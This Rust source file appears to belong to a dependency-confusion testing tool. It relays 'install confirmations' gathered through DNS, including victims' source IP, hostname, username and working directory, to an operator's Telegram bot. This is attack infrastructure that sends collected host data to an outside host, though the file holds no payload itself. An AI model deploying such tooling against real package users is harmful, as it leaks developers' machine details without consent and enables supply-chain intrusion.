//! Telegram bot notifications for install confirmations.

use crate::exfil::Confirmation;
use crate::types::{DepconfError, Result};
use reqwest::Client;
use serde::Serialize;
use std::time::Duration;
use tracing::{debug, error};

/// Telegram message request body.
#[derive(Serialize)]
struct SendMessageRequest<'a> {
    chat_id: &'a str,
    text: &'a str,
    parse_mode: &'a str,
}

/// Telegram notification handler.
pub struct TelegramNotifier {
    client: Client,
    api_base: String,
    token: String,
    chat_id: String,
}

impl TelegramNotifier {
    /// Create a new Telegram notifier.
    pub fn new(token: &str, chat_id: &str) -> Result<Self> {
        let client = Client::builder()
            .timeout(Duration::from_secs(30))
            .build()?;

        Ok(Self {
            client,
            api_base: "https://api.telegram.org".to_string(),
            token: token.to_string(),
            chat_id: chat_id.to_string(),
        })
    }

    /// Point the notifier at another Bot API host.
    pub fn with_api_base(mut self, api_base: &str) -> Self {
        self.api_base = api_base.trim_end_matches('/').to_string();
        self
    }

    /// Send a confirmation notification.
    pub async fn send_confirmation(&self, confirmation: &Confirmation) -> Result<()> {
        let message = format_confirmation_message(confirmation);
        self.send_message(&message).await
    }

    /// Send a raw message via Telegram Bot API.
    async fn send_message(&self, text: &str) -> Result<()> {
        let url = format!("{}/bot{}/sendMessage", self.api_base, self.token);

        let body = SendMessageRequest {
            chat_id: &self.chat_id,
            text,
            parse_mode: "Markdown",
        };

        let response = self
            .client
            .post(&url)
            .json(&body)
            .send()
            .await?;

        if response.status().is_success() {
            debug!("Telegram message sent successfully");
            Ok(())
        } else {
            let error_text = response.text().await.unwrap_or_default();
            error!("Failed to send Telegram message: {}", error_text);
            Err(DepconfError::TelegramError(error_text))
        }
    }
}

/// Format a confirmation as a Telegram message.
fn format_confirmation_message(confirmation: &Confirmation) -> String {
    format!(
        "🚨 *Received DNS interaction*\n\n\
         *Package:* `{}`\n\
         *Received at:* `{}`\n\
         *Received from:* `{}`\n\
         *Hostname:* `{}`\n\
         *Username:* `{}`\n\
         *Directory:* `{}`",
        confirmation.package,
        confirmation.timestamp.format("%B %-d, %Y %-I:%M %p"),
        confirmation.source_ip,
        confirmation.hostname,
        confirmation.username,
        confirmation.working_directory
    )
}
